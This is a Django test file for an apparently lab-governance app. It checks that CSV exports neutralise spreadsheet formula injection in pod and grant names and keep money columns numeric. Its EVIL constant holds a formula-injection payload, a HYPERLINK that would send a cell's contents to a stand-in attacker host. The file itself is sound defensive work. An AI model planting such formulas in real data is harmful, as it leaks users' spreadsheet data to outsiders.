"""Issue 9: a pod or a grant named like a spreadsheet formula is downloaded as text."""

import csv
import io

from django.urls import reverse

from labgov.funding.imports import grants_import_csv
from labgov.runpod.models import Resource

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_pod_named_like_a_formula(world, spend, client_for):
    Resource.objects.filter(pk=spend.running.pk).update(name=EVIL)
    url = reverse("dashboard:me") + "?format=csv&table=resources"
    rows = _rows(client_for(world.member).get(url))
    assert rows[1][0] == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_an_imported_grant_named_like_a_formula(world, spend, client_for):
    fs = world.funding_source
    result = grants_import_csv(
        actor=world.finance,
        institution=world.institution,
        data=(
            "lab,name,award_number,start_date,end_date,amount_usd\n"
            f'vision,"{EVIL.replace(chr(34), chr(34) * 2)}",{fs.award_number},'
            f"{fs.start_date},{fs.end_date},{fs.amount_usd}\n"
        ).encode(),
    )
    assert result.ok, result.errors
    url = reverse("dashboard:institution") + "?start=2026-02&end=2026-03&format=csv&table=funding"
    rows = _rows(client_for(world.finance).get(url))
    assert ["'" + EVIL] in [row[:1] for row in rows]
    # Money stays numeric: every cell of the money columns reads as a number.
    for row in rows[1:]:
        for cell in row[4:]:
            float(cell)


def test_a_negative_amount_stays_a_number(world, spend, client_for):
    from tests.dashboard.conftest import TODAY, add_spend

    add_spend(spend.account, TODAY.replace(day=1), "-20.00")  # a credit, unattributed
    url = reverse("dashboard:institution") + "?start=2026-03&end=2026-03&format=csv&table=funding"
    rows = _rows(client_for(world.finance).get(url))
    unattributed = [row for row in rows if row[4].startswith("-")]
    assert unattributed and unattributed[0][4] == "-15.00"
